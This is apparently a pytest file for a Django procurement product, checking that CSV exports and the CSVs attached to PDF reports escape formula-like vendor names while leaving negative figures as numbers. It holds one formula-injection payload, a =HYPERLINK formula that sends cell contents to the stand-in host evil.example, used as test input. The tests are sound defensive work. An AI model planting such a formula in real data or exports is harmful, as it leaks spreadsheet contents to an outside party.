"""Every CSV the product writes goes through core.spreadsheet, which neutralises formulas.

A vendor chooses its own name; a name like =HYPERLINK("http://…") must come out as text in
every CSV (the comparison page's export and the CSV attached inside the PDF reports), and a
negative figure must still come out as a number.
"""

import csv
import io
import re
from pathlib import Path

import pytest

from reports.kinds import ReportContent
from reports.models import Report
from reports.services.rendering import figures_csv, report_render, report_request
from tests.support.reports import attached_csv
from tests.support.vendors import closed_event_with_proposals, vendor_make

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("accounts", "config", "core", "vendors", "contracts", "kpis", "reports", "demo")
WRITERS = re.compile(
    r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b[^\n]*\b(writer|DictWriter)\b"
)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


def test_only_core_spreadsheet_creates_csv_writers():
    users = sorted(
        str(path.relative_to(ROOT))
        for package in PRODUCT
        for path in (ROOT / package).rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    )
    assert users == ["core/spreadsheet.py"]


@pytest.fixture
def formula_event():
    event, _ = closed_event_with_proposals(vendor_make(FORMULA_NAME), vendor_make("Plain BPO"))
    return event


def test_the_comparison_page_export_neutralises_a_formula_vendor_name(
    client, procurement_user, formula_event
):
    client.force_login(procurement_user)
    response = client.get(f"/events/{formula_event.pk}/comparison/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA_NAME in names and FORMULA_NAME not in names


def test_the_csv_inside_the_comparison_pdf_neutralises_a_formula_vendor_name(
    make_user, formula_event, tmp_path
):
    report = report_request(
        kind="comparison", parameters={"event": formula_event.pk}, user=make_user("auditor")
    )
    report_render(report_id=report.pk)
    report.refresh_from_db()
    assert report.status == Report.Status.DONE, report.error
    vendors = [row["vendor"] for row in attached_csv(report.file.read(), tmp_path)]
    assert "'" + FORMULA_NAME in vendors and FORMULA_NAME not in vendors


def test_report_figures_stay_numbers_when_negative_and_text_is_escaped():
    content = ReportContent(
        title="t", template="t.html", context={}, revisions={},
        csv_header=["month", "savings", "note"],
        csv_rows=[["2026-03", "-1234.50", "@SUM(A1:A9)"], ["2026-04", "+7", "-2+3"]],
    )  # fmt: skip
    text = figures_csv(content).decode()
    assert text.splitlines() == [
        "month,savings,note",
        "2026-03,-1234.50,'@SUM(A1:A9)",
        "2026-04,+7,'-2+3",
    ]
